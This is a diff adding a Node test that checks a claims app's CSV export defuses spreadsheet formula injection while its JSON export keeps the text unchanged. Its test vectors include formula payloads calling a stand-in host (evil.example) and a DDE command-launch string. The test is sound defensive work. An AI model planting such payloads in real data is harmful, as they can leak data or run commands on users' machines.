@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
-import { EXPORT_COLUMNS } from '../src/web/exports.js';
+import { EXPORT_COLUMNS, neutraliseFormula } from '../src/web/exports.js';
 import { EVENING_SLUG, freshApp, page } from './helpers.js';
 
 /** Text that breaks naive CSV: commas, quotes, both newline kinds, and right-to-left scripts. */
@@ -66,6 +66,28 @@ describe('claims export', () => {
     assert.equal(rows[0]!.statement, AWKWARD.text);
     assert.equal(rows[0]!.quote, AWKWARD.quote);
     assert.equal(rows[0]!.facet, AWKWARD.facet);
+  });
+
+  it('neutralises spreadsheet formulas in CSV cells, leaving the JSON export as stored', async () => {
+    const { editor } = freshApp();
+    const vectors = ['=HYPERLINK("http://evil.example","click")', '+1+1', '-2+3', '@SUM(A1:A2)', "=cmd|' /C calc'!A0"];
+    // Stored text is trimmed, so a leading tab or CR only reaches the CSV writer from other columns.
+    assert.equal(neutraliseFormula('\t=1+1'), "'\t=1+1");
+    assert.equal(neutraliseFormula('\r=1+1'), "'\r=1+1");
+    assert.equal(neutraliseFormula('plain = text'), 'plain = text');
+    assert.equal(neutraliseFormula(-5), -5);
+    const source = (await editor.post('/api/sources').send({ name: '=IMPORTXML("http://evil.example")' }).expect(201)).body;
+    const incident = (await editor.post('/api/incidents').send({ title: 'Formulas' }).expect(201)).body;
+    for (const vector of vectors) {
+      await editor.post(`/api/incidents/${incident.id}/claims`).send({ source_id: source.id, facet: vector, text: vector, quote: vector }).expect(201);
+    }
+    const csv = parse((await editor.get('/incidents/formulas/claims.csv').buffer(true)).text, { bom: true, columns: true }) as Record<string, string>[];
+    assert.deepEqual(csv.map((row) => row.statement), vectors.map((vector) => `'${vector}`));
+    assert.deepEqual(csv.map((row) => row.quote), vectors.map((vector) => `'${vector}`));
+    assert.equal(csv[0]!.source, `'=IMPORTXML("http://evil.example")`);
+    assert.equal(csv[0]!.claim_id, String(csv[0]!.claim_id).replace(/^'/, ''), 'numbers are left alone');
+    const json = (await editor.get('/incidents/formulas/claims.json')).body as Record<string, string>[];
+    assert.deepEqual(json.map((row) => row.statement), vectors, 'the JSON keeps the original text');
   });
 
   it('exports the whole database as CSV, one row per claim, counts read as intervals', async () => {
